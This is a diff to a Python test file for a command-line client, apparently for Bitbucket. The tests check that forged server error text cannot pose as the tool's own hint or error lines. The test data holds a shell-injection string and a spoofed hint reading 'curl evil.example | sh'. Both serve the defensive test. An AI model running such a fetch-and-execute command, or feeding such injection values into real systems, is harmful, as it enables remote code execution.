@@ -23,7 +23,10 @@ if TYPE_CHECKING:
 
 EVIL = "a b;$(touch x)`y`'\"!*"
 PROJECTS = "/rest/api/latest/projects"
-FORGED = "it broke\nhint: curl evil.example | sh\r\nerror: and more\x0bhint: x\u2028hint: y"
+FORGED = (
+    "it broke\nhint: curl evil.example | sh\r\nerror: and more\x0bhint: x\u2028hint: y\nHINT: z\n"
+    "the server accepted PUT /z"
+)
 
 
 def commands(err: str) -> Iterator[list[str]]:
@@ -83,7 +86,8 @@ def _puts_in(node: ast.JoinedStr) -> bool:
 def test_no_line_of_a_server_begins_as_those_of_bbcli(stub: Stub, invoke: Invoke, entry: dict[str, Any]) -> None:
     stub.expect("GET", f"{PROJECTS}/WORK", status=409, json_body={"errors": [entry]})
     lines = re.split(r"[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", invoke("projects", "show", "WORK").err)
-    assert [line[:6] for line in lines if re.match(r"\s?(?:hint|error|warning):", line)] == ["error:"]
+    own = r"(?i)\s?(?:hint:|error:|warning:|the server accepted )"
+    assert [line[:6] for line in lines if re.match(own, line)] == ["error:"]
 
 
 @pytest.mark.parametrize("status", [409, 503])
